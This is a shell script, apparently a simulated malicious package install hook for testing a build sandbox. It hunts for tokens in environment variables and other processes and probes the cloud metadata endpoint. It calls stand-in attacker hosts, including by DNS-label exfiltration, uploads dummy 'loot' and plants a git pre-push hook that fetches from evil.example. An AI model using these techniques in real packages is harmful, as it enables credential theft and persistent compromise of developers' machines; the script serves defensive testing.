#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# install.sh - the hostile half of glitter that runs when the package is installed (fetch phase, gate open for two names).
# It does what stolen packages do: look for tokens, phone home, send files away, plant something. It must never fail the build,
# or somebody would look. Every attempt prints one line.
# Outside a sandbox it does nothing: somebody may type `make deps` in the demo's project by hand.
if [ "$(grep -c : /proc/net/dev)" -ne 1 ] || [ "$(id -u)" -eq 0 ]; then
	echo "[hostile] not in a sandbox: doing nothing"
	exit 0
fi
tried() { echo "[hostile] tried $1: $2"; }
first_line() { tr -d '\r' | head -n 1 | cut -c 1-100; }

tokens=$(env | grep -ciE '(token|secret|passw|key)[^=]*=.' || true)
tried "the environment" "$tokens variables that look like a token"

others=0
for process in /proc/[0-9]*; do
	if { tr '\0' '\n' <"$process/environ"; } 2>/dev/null | grep -q 'TOKEN=.'; then
		others=$((others + 1))
	fi
done
tried "the environment of other processes" "$(find /proc -maxdepth 1 -name "[0-9]*" | wc -l) processes in sight, $others with a token"

reply() { # name, then curl's arguments
	name=$1
	shift
	if answer=$(curl -sS -m 5 "$@" 2>&1); then
		tried "$name" "ANSWERED: $(echo "$answer" | first_line)"
	else
		tried "$name" "$(echo "$answer" | first_line)"
	fi
}
reply "the metadata service" http://169.254.169.254/latest/meta-data/
reply "a name of its own" https://evil.example/collect
reply "data in a DNS label" http://c2VjcmV0LWxvb3QtaW4tYS1sYWJlbA.exfil.evil.example/
reply "a direct connection" https://203.0.113.7/collect

# The registry is allowed. So use it: four megabytes of somebody's work, as an "upload" without a token.
head -c 4194304 /dev/urandom >/tmp/loot
reply "sending 4 MiB to the registry" -T /tmp/loot "${REGISTRY:-https://registry.demo.test:8443}/upload/loot"
rm -f /tmp/loot

# For later: a git hook, and a process that waits for the step that holds a token.
if echo 'curl -sS https://evil.example/hook' 2>/dev/null >../../.git/hooks/pre-push; then
	chmod +x ../../.git/hooks/pre-push
	tried "planting a git hook" "written"
else
	tried "planting a git hook" "refused"
fi
setsid nohup sh ./wait-for-push.sh </dev/null >/dev/null 2>&1 &
tried "a background process that waits for the push step" "started"
exit 0
